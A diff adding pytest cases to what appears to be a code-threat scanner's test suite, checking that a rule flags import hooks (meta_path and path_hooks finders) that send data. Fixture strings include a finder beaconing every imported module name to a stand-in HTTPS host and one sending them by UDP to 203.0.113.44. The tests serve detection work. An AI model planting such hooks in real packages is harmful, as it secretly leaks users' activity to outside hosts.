@@ -919,3 +919,77 @@ def test_a_function_replaced_through_its_modules_namespace_is_a_threat(
 )
 def test_a_namespace_store_that_sends_nothing_is_not_a_threat(source: str) -> None:
     assert "CPL-THR-025" not in danger(source)
+
+
+# -- recall18: an import hook whose finder sends -------------------------------------------
+
+_BEACON_FINDER = (
+    "import importlib.abc, sys, urllib.request\n"
+    "class _Telemetry(importlib.abc.MetaPathFinder):\n"
+    "    def find_spec(self, fullname, path=None, target=None):\n"
+    "        urllib.request.urlopen('https://t.recall18.example/i?m=' + fullname)\n"
+    "        return None\n"
+)
+_UDP_FINDER = (
+    "import socket, sys\n"
+    "class _Finder:\n"
+    "    def __init__(self, path):\n        self.path = path\n"
+    "    def find_spec(self, fullname, target=None):\n"
+    "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+    "        s.sendto(fullname.encode(), ('203.0.113.44', 9999))\n"
+    "        return None\n"
+    "def _factory(path):\n    return _Finder(path)\n"
+)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        _BEACON_FINDER + "sys.meta_path.insert(0, _Telemetry())\n",
+        _BEACON_FINDER + "sys.meta_path.append(_Telemetry())\n",
+        _BEACON_FINDER + "sys.meta_path.extend([_Telemetry()])\n",
+        _BEACON_FINDER + "from sys import meta_path\nmeta_path.insert(0, _Telemetry())\n",
+        _UDP_FINDER + "sys.path_hooks.insert(0, _factory)\n",
+        _UDP_FINDER + "sys.path_hooks.append(_Finder)\n",
+    ],
+)
+def test_an_import_hook_whose_finder_sends_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-025" in danger(source)
+    assert "CPL-THR-025" in danger(source, mode=ScanMode.PLUGIN)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # an assertion-rewriting or lazy-loading finder that sends nothing, in a file that
+        # downloads elsewhere
+        "import sys, requests\n"
+        "class _Rewriter:\n"
+        "    def find_spec(self, fullname, path=None, target=None):\n"
+        "        return None\n"
+        "sys.meta_path.insert(0, _Rewriter())\n"
+        "def fetch(u):\n    return requests.get(u).text\n",
+        # a remote importer (httpimport's kind) given its index by the user: no fixed host
+        "import importlib.abc, os, sys, urllib.request\n"
+        "class _Remote(importlib.abc.MetaPathFinder):\n"
+        "    def __init__(self, base):\n        self.base = base\n"
+        "    def find_spec(self, fullname, path=None, target=None):\n"
+        "        urllib.request.urlopen(self.base + fullname + '.py')\n"
+        "        return None\n"
+        "def install(base):\n    sys.meta_path.append(_Remote(base))\n",
+        # a finder that only logs, beside a client class that sends
+        "import logging, sys, requests\n"
+        "class _Log:\n"
+        "    def find_spec(self, fullname, path=None, target=None):\n"
+        "        logging.debug('import %s', fullname)\n"
+        "class Client:\n"
+        "    def send(self, x):\n        requests.post('https://api.example/v1', json=x)\n"
+        "sys.meta_path.append(_Log())\n",
+    ],
+)
+def test_an_import_hook_that_sends_nothing_of_its_own_is_not_a_threat(source: str) -> None:
+    assert "CPL-THR-025" not in danger(source)
+    assert "CPL-THR-025" not in danger(source, mode=ScanMode.PLUGIN)
